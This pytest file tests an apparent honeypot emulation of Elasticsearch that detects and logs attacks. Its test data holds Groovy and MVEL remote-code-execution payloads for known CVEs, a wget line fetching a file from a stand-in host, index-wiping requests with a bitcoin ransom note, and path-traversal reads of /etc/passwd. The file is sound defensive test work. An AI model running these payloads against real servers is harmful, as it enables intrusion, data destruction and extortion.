"""Elasticsearch: scripts in a search, ransom and its note, files by climbing paths, and what one sees of the node."""

from __future__ import annotations

import json
from typing import Any
from urllib.parse import quote

import pytest

from eudaemon.events.catalogue import CommandEntered, ExploitRecognised, FileRequested
from eudaemon.protocols.elasticsearch import Elasticsearch
from eudaemon.protocols.elasticsearch import cluster as limits
from eudaemon.protocols.elasticsearch.cluster import RELEASES, cluster_of
from eudaemon.protocols.elasticsearch.room import SCRIPTS_MAX
from eudaemon.testing.script import Table, visit
from eudaemon.world.host import Host
from eudaemon.world.memory import Memory
from eudaemon.world.seed import Seed

WGET = "wget http://198.51.100.7/x -O /tmp/x"
GROOVY = 'java.lang.Math.class.forName("java.lang.Runtime").getRuntime().exec("{}").getText()'
MVEL = (
    'import java.util.*;\nimport java.io.*;\nString str = "";BufferedReader br = new BufferedReader(new '
    'InputStreamReader(Runtime.getRuntime().exec("{}").getInputStream()));StringBuilder sb = new StringBuilder();'
    "while((str=br.readLine())!=null){{sb.append(str);}}sb.toString();"
)
NOTE = "All your data is backed up. You must pay 0.01 BTC to 1KHxxxx to restore it."
HOST = Host.from_seed(Seed(b"test"))
INDEX = cluster_of(HOST).indices[0]


def talk(memory: Memory | None = None, host: Host | None = None) -> Table:
    return Table(Elasticsearch(visit(host=host, port=9200, memory=memory))).open()


def request(method: str, path: str, body: str = "") -> bytes:
    size = len(body.encode())
    return f"{method} {path} HTTP/1.1\r\nHost: 192.0.2.1:9200\r\nContent-Length: {size}\r\n\r\n{body}".encode()


def told(table: Table, method: str, path: str, body: Any = "") -> tuple[int, Any]:
    sent = table.say(request(method, path, body if isinstance(body, str) else json.dumps(body)))
    head, _, content = sent.partition(b"\r\n\r\n")
    assert b"Content-Length: %d" % len(content) in head
    return int(head.split()[1]), json.loads(content) if content.startswith(b"{") else content.decode()


def search(script: str, **more: str) -> dict[str, Any]:
    return {"size": 1, "query": {"match_all": {}}, "script_fields": {"lupin": {**more, "script": script}}}


def test_json_is_utf_8_alone() -> None:
    """For the others a confined sensor may have no codec."""
    table, body = talk(), json.dumps(search(GROOVY.format(WGET))).encode("utf-32-be")
    head = f"POST /_search HTTP/1.1\r\nHost: a\r\nContent-Length: {len(body)}\r\n\r\n"
    assert table.say(head.encode() + body).startswith(b"HTTP/1.1 ")
    assert not table.wishes


@pytest.mark.parametrize("way", ["body", "query", "raw"])
@pytest.mark.parametrize(
    ("script", "name", "reference"),
    [(GROOVY, "elasticsearch-groovy", "CVE-2015-1427"), (MVEL, "elasticsearch-mvel", "CVE-2014-3120")],
)
def test_a_script_in_a_search_fetches(script: str, name: str, reference: str, way: str) -> None:
    table, body = talk(), json.dumps(search(script.format(WGET)))
    if way == "query":
        table.say(request("GET", f"/_search?source={quote(body)}&pretty"))
    elif way == "raw":  # a script with line ends as they come, which is no JSON, strictly
        table.say(request("POST", "/_search?pretty", body.replace("\\n", "\n")))
    else:
        table.say(request("POST", "/customers/_search", body))
    assert ExploitRecognised(name, reference, WGET) in table.facts
    assert CommandEntered(WGET) in table.facts
    assert [wish.download.url for wish in table.wishes] == ["http://198.51.100.7/x"]
    assert [(keep.origin, keep.name, keep.data.decode()) for keep in table.kept] == [
        ("script", name, script.format(WGET))
    ]
    assert not table.sent, "a search waits for its script, and that for its download"
    table.answer("ok", b"\x7fELF")
    assert b"200 OK" in table.sent


@pytest.mark.parametrize("script", [GROOVY, MVEL])
def test_what_a_command_prints_is_its_field(script: str) -> None:
    status, found = told(talk(), "POST", f"/{INDEX.name}/_search", search(script.format("id -un"), lang="groovy"))
    assert status == 200
    (hit,) = found["hits"]["hits"]
    assert (hit["_index"], hit["fields"]) == (INDEX.name, {"lupin": ["root\n"]})
    asked = 'java.lang.System.getProperty("os.name")'
    assert told(talk(), "POST", "/_search", search(asked))[1]["hits"]["hits"][0]["fields"] == {"lupin": ["Linux"]}
    sums = search("doc['cents'].value * 2")
    table = talk()
    assert told(table, "POST", "/_search", sums)[0] == 200
    assert not table.kept


def test_a_script_in_what_is_no_json() -> None:
    table = talk()
    table.say(request("POST", "/_search", '{"script": "Runtime.getRuntime().exec(\\"id\\").getText()", oops'))
    assert CommandEntered("id") in table.facts


def test_ransom_is_remembered_and_its_note_kept() -> None:
    memory = Memory()
    before = told(talk(memory), "GET", "/_cat/indices?v")[1]
    assert before.splitlines()[0].split()[:3] == ["health", "status", "index"]
    assert INDEX.name in before
    assert str(INDEX.count) in before
    assert told(talk(memory), "GET", f"/{INDEX.name}/_count")[1]["count"] == INDEX.count
    assert told(talk(memory), "DELETE", "/_all") == (200, {"acknowledged": True})
    assert told(talk(memory), "GET", "/_cat/indices")[1] == ""
    assert told(talk(memory), "GET", f"/{INDEX.name}/_search")[1] == {
        "error": f"IndexMissingException[[{INDEX.name}] missing]", "status": 404,
    }  # fmt: skip
    table = talk(memory)
    status, made = told(table, "POST", "/read_me/note", {"message": NOTE})
    assert (status, made["created"], len(made["_id"])) == (201, True, 22)
    assert ExploitRecognised("elasticsearch-ransom", "", NOTE) in table.facts
    assert [(keep.name, keep.data.decode()) for keep in table.kept] == [("read_me/note", NOTE)]
    later = talk(memory)
    assert told(later, "GET", "/_search")[1]["hits"]["hits"][0]["_source"] == {"message": NOTE}
    assert told(later, "GET", f"/read_me/note/{made['_id']}")[1]["found"] is True
    assert told(later, "GET", "/_stats")[1]["indices"]["read_me"]["total"]["docs"]["count"] == 1
    assert told(talk(), "GET", f"/{INDEX.name}/_count")[0] == 200, "somebody else's address sees all"


def test_a_note_in_bulk() -> None:
    memory = Memory()
    told(talk(memory), "DELETE", f"/{INDEX.name[:3]}*")
    table = talk(memory)
    lines = (
        {"index": {"_index": "x", "_type": "y", "_id": "1"}},
        {"m": NOTE},
        {"delete": {"_index": "x"}},
        {"junk": 1},
    )
    status, done = told(table, "POST", "/_bulk", "\n".join(map(json.dumps, lines)) + "\n")
    assert status == 200
    assert [next(iter(item)) for item in done["items"]] == ["index", "delete", "junk"]
    assert [keep.data.decode() for keep in table.kept] == [NOTE]
    assert told(talk(memory), "GET", "/x/y/1")[1]["_source"] == {"m": NOTE}


def test_paths_that_climb() -> None:
    table = talk()
    assert "root:x:0:0" in told(table, "GET", "/_plugin/head/../../../../../../etc/passwd")[1]
    assert FileRequested("read", "/etc/passwd") in table.facts
    assert told(table, "PUT", "/_snapshot/a", {"type": "fs", "settings": {"location": "/x"}})[0] == 200
    status, shown = told(table, "GET", "/_snapshot/a/backdata%2f..%2f..%2f..%2fetc%2fpasswd")
    assert status == 400
    assert ": [114, 111, 111, 116, 58," in shown["error"]
    assert told(table, "GET", "/_plugin/head/../../nothing")[0] == 404
    assert [fact.reference for fact in table.facts if isinstance(fact, ExploitRecognised)] == [
        "CVE-2015-3337", "CVE-2015-5531", "CVE-2015-3337",
    ]  # fmt: skip


def test_what_one_sees() -> None:
    table = talk()
    first = table.say(request("GET", "/"))
    cluster = cluster_of(HOST)
    assert first.startswith(b"HTTP/1.1 200 OK\r\nContent-Type: application/json; charset=UTF-8\r\nContent-Length: ")
    assert talk().say(b"GET / HTTP/1.0\r\n\r\n").startswith(b"HTTP/1.0 200 OK\r\n")
    assert b'\n  "tagline" : "You Know, for Search"\n}\n' in first
    assert f'"number" : "{cluster.release.number}"'.encode() in first
    assert told(table, "GET", "/_cluster/health")[1]["number_of_nodes"] == 1
    assert list(told(table, "GET", "/_nodes")[1]["nodes"]) == [cluster.node]
    assert sorted(told(table, "GET", "/_aliases")[1]) == [one.name for one in cluster.indices]
    mapping = told(table, "GET", f"/{INDEX.name}/_mapping")[1]
    assert set(mapping[INDEX.name]["mappings"][INDEX.kind]["properties"]) == set(INDEX.fields)
    hits = told(table, "GET", f"/{INDEX.name}/_search?size=3&from=2&pretty")[1]["hits"]
    assert (hits["total"], [hit["_id"] for hit in hits["hits"]]) == (INDEX.count, ["3", "4", "5"])
    assert told(table, "GET", f"/{INDEX.name}/{INDEX.kind}/5")[1]["_source"] == hits["hits"][2]["_source"]
    assert told(table, "GET", f"/{INDEX.name}/{INDEX.kind}/{INDEX.count + 1}")[0] == 404
    assert "/_cat/indices" in told(table, "GET", "/_cat")[1]
    assert told(table, "GET", "/robots/x/y/z") == (
        400, "No handler found for uri [/robots/x/y/z] and method [GET]"
    )  # fmt: skip
    hosts = [Host.from_seed(Seed(b"%d" % number)) for number in range(60)]
    assert {cluster_of(host).release for host in hosts} == set(RELEASES)
    assert len({talk(host=host).say(request("GET", "/_nodes")) for host in hosts}) == 60


@pytest.mark.parametrize(
    "body", ["", "{", "[]", "3", "[" * 2000, '{"size": "a", "from": -1}', '{"script_fields": {"a": {"script": 3}}}']
)
def test_what_is_no_search(body: str) -> None:
    table = talk()
    assert told(table, "POST", "/_search", body)[0] == 200
    assert told(table, "PUT", "/a/b/c", body)[0] in (201, 400)
    assert told(table, "POST", "/_bulk", body)[0] == 200
    assert not table.fault
    assert not table.wishes


def test_documents_are_remembered_up_to_a_limit() -> None:
    memory = Memory()
    table = talk(memory)
    longest = "x" * (limits.DOCUMENT_CHARS_MAX - len('{"a": ""}'))
    assert told(table, "PUT", "/own/t/longer", {"a": longest + "x"})[0] == 201
    for number in range(limits.DOCUMENTS_MAX + 1):
        assert told(table, "PUT", f"/own/t/{number}", {"a": longest})[0] == 201
    assert told(table, "GET", "/own/_count")[1]["count"] == limits.DOCUMENTS_MAX
    for number in range(limits.INDICES_MAX + 1):
        told(table, "PUT", f"/{number}{'ü' * (limits.NAME_CHARS_MAX - 2)}")
    assert len(told(table, "GET", "/_aliases")[1]) == limits.INDICES_MAX + len(cluster_of(HOST).indices)
    assert told(talk(memory), "GET", "/own/_count")[1]["count"] == limits.DOCUMENTS_MAX, "the memory takes all of it"


def test_scripts_up_to_a_limit() -> None:
    table = talk()
    fields = {f"f{number}": {"script": GROOVY.format(f"echo {number}")} for number in range(SCRIPTS_MAX + 1)}
    told(table, "POST", "/_search", {"script_fields": fields})
    assert len(table.kept) == SCRIPTS_MAX
